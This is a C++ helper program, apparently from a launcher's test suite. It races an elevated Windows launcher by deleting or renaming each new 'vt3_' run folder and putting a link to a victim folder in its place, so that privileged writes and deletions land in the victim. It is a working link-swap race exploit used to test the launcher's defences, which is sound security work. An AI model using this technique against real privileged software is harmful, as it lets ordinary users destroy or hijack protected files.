// A program of the player's own account that wants in: it watches folders
// for new run folders ("vt3_..."), and removes or renames each one it can
// through Windows as soon as it appears, while it is still empty; where it
// succeeds, a link to VICTIM, a folder of its own, takes its place, hoping
// that the elevated launcher then writes into it and empties it. Each
// folder it sees and each it takes is noted in LOG. After its first try it
// signals the event "Vt3FolderRacerTried", which a test build of the
// launcher waits for between the folder's creation and the worker's write.
// Runs until STOPFILE exists; its exit code is the number of folders taken.
//   folder_racer VICTIM STOPFILE LOG FOLDER...
#include <windows.h>

#include <cstdio>
#include <set>
#include <string>
#include <vector>

#include "tests/support/host_link.h"

namespace {

void RunFolders(const std::string& folder, std::vector<std::string>* found) {
  WIN32_FIND_DATAA data;
  HANDLE search = FindFirstFileA((folder + "\\vt3_*").c_str(), &data);
  if (search == INVALID_HANDLE_VALUE) return;
  do {
    if (data.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) found->push_back(folder + "\\" + data.cFileName);
  } while (FindNextFileA(search, &data));
  FindClose(search);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 5) return 255;
  std::string victim = argv[1], stop = argv[2];
  FILE* log = std::fopen(argv[3], "w");
  if (!log) return 255;
  std::vector<std::string> folders(argv + 4, argv + argc), found;
  for (const std::string& folder : folders) RunFolders(folder, &found);
  std::set<std::string> known(found.begin(), found.end());
  HANDLE tried = CreateEventA(nullptr, TRUE, FALSE, "Vt3FolderRacerTried");
  int taken = 0;
  while (GetFileAttributesA(stop.c_str()) == INVALID_FILE_ATTRIBUTES) {
    found.clear();
    for (const std::string& folder : folders) RunFolders(folder, &found);
    for (const std::string& path : found) {
      if (known.count(path)) continue;
      known.insert(path);
      std::fprintf(log, "seen %s\n", path.c_str());
      std::string aside = path + ".aside";
      if (RemoveDirectoryA(path.c_str()) || MoveFileA(path.c_str(), aside.c_str())) {
        bool linked = MakeHostLink(victim, path);
        std::fprintf(log, "taken %s%s\n", path.c_str(), linked ? ", linked" : ", not linked");
        ++taken;
      }
      std::fflush(log);
      SetEvent(tried);
    }
    Sleep(1);
  }
  std::fclose(log);
  CloseHandle(tried);
  return taken;
}
